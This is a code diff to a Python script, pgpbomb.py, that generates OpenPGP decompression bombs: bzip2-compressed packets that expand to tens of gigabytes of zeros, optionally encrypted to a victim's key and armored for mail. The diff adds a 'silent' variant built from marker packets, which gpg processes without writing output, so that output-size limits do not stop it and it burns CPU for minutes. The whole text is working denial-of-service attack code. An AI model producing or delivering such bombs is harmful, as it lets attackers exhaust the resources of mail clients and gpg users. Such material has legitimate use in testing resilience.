@@ -21,10 +21,16 @@ bytes again, the bomb and an MDC packet 0xD3 0x14 + SHA-1) is built around
 the bomb with that session key, after the tiny message's PKESK packets.
 AES comes from libgcrypt through ctypes (Python has none).
 
-    python3 pgpbomb.py --size 64G [--encrypt HOME FPR] [--armor] -o FILE
+    python3 pgpbomb.py [--size 64G] [--kind zeros|markers]
+                       [--encrypt HOME FPR] [--armor] [-o FILE]
 
 The literal packet holds at least `size` zeros (a whole number of blocks,
-so up to 45 MB more); zeros() says how many exactly.
+so up to 45 MB more); bomb() says how many exactly.
+
+--kind markers makes a silent bomb instead: the compressed packet holds
+`size` bytes of marker packets (tag 10, "PGP"), which gpg reads and skips
+one by one, writing nothing. No output limit stops that; only a time limit
+does (about 100 MB a second of gpg's CPU here: 64 GiB is ten minutes).
 """
 import argparse
 import base64
@@ -43,6 +49,10 @@ END_MAGIC = 0x177245385090
 # | 3), then format 'b', no file name and a zero date.
 LITERAL_HEADER = bytes([0xAF]) + b"b" + b"\0" + b"\0\0\0\0"
 ZERO_RUN = 46 * 1000 * 1000     # more than one 900k block holds after RLE
+# A marker packet, new format: gpg skips it. A 900k block holds 899981
+# bytes without runs; 149996 markers fill it with whole packets.
+MARKER = b"\xca\x03PGP"
+MARKERS_PER_BLOCK = 149996
 
 
 def _bits(data):
@@ -60,7 +70,7 @@ def _blocks(stream):
     magic = format(BLOCK_MAGIC, "048b")
     starts = [m.start() for m in re.finditer("(?=%s)" % magic, bits)]
     end = bits.rfind(format(END_MAGIC, "048b"))
-    if len(starts) < 3 or end < starts[-1]:
+    if not starts or end < starts[-1]:
         raise ValueError("unexpected bzip2 stream layout")
     edges = starts + [end]
     return bits[:32], [bits[a:b] for a, b in zip(edges, edges[1:])]
@@ -88,6 +98,8 @@ def bzip2_bomb(size):
     """(stream, zeros): a bzip2 stream of LITERAL_HEADER then >= size zeros."""
     sample = bz2.compress(LITERAL_HEADER + bytes(3 * ZERO_RUN), 9)
     header, blocks = _blocks(sample)
+    if len(blocks) < 3:
+        raise ValueError("unexpected bzip2 stream layout")
     first, zero = blocks[0], blocks[1]
     first_len = _decoded_len(header, first)
     zero_len = _decoded_len(header, zero)
@@ -95,6 +107,17 @@ def bzip2_bomb(size):
     n = -(-want // zero_len)
     zeros = first_len - len(LITERAL_HEADER) + n * zero_len
     return _stream(header, [first, zero], [1, n]), zeros
+
+
+def bzip2_markers(size):
+    """(stream, n): a bzip2 stream of >= size bytes of marker packets, n
+    bytes exactly: one block of whole packets, repeated."""
+    header, blocks = _blocks(bz2.compress(MARKER * MARKERS_PER_BLOCK, 9))
+    if len(blocks) != 1:
+        raise ValueError("unexpected bzip2 stream layout")
+    per_block = len(MARKER) * MARKERS_PER_BLOCK
+    n = max(1, -(-size // per_block))
+    return _stream(header, blocks, [n]), n * per_block
 
 
 def packet(tag, body):
@@ -109,10 +132,11 @@ def packet(tag, body):
     return bytes([0xC0 | tag]) + length + body
 
 
-def compressed_bomb(size):
-    """(packet, zeros): the compressed data packet of the bomb."""
-    stream, zeros = bzip2_bomb(size)
-    return packet(8, b"\x03" + stream), zeros
+def compressed_bomb(size, kind="zeros"):
+    """(packet, n): the compressed data packet of the bomb, and how many
+    zeros (or bytes of markers) it holds."""
+    stream, n = bzip2_markers(size) if kind == "markers" else bzip2_bomb(size)
+    return packet(8, b"\x03" + stream), n
 
 
 def _crc24(data):
@@ -245,13 +269,13 @@ def encrypt_to(home, fpr, inner):
     return pkesk + seipd(algo, key, inner)
 
 
-def bomb(size, home=None, fpr=None):
-    """(binary OpenPGP message, zeros): the compressed bomb, encrypted to
-    fpr when home and fpr are given."""
-    pkt, zeros = compressed_bomb(size)
+def bomb(size, home=None, fpr=None, kind="zeros"):
+    """(binary OpenPGP message, n): the compressed bomb (see
+    compressed_bomb), encrypted to fpr when home and fpr are given."""
+    pkt, n = compressed_bomb(size, kind)
     if home is not None:
         pkt = encrypt_to(home, fpr, pkt)
-    return pkt, zeros
+    return pkt, n
 
 
 def multipart_encrypted(headers, armored):
@@ -279,10 +303,12 @@ def main(argv):
                     help="zeros in the literal packet (default 64G)")
     ap.add_argument("--encrypt", nargs=2, metavar=("HOME", "FPR"),
                     help="encrypt to FPR, whose secret key is in GNUPGHOME HOME")
+    ap.add_argument("--kind", choices=("zeros", "markers"), default="zeros",
+                    help="zeros: a literal packet (output); markers: silent")
     ap.add_argument("--armor", action="store_true", help="ASCII armor")
     ap.add_argument("-o", "--output", default="-")
     a = ap.parse_args(argv)
-    data, zeros = bomb(a.size, *(a.encrypt or (None, None)))
+    data, n = bomb(a.size, *(a.encrypt or (None, None)), kind=a.kind)
     if a.armor:
         data = armor(data).encode()
     if a.output == "-":
@@ -290,7 +316,7 @@ def main(argv):
     else:
         with open(a.output, "wb") as f:
             f.write(data)
-    print("%d bytes, %d zeros" % (len(data), zeros), file=sys.stderr)
+    print("%d bytes, %d bytes of %s" % (len(data), n, a.kind), file=sys.stderr)
     return 0
 
 
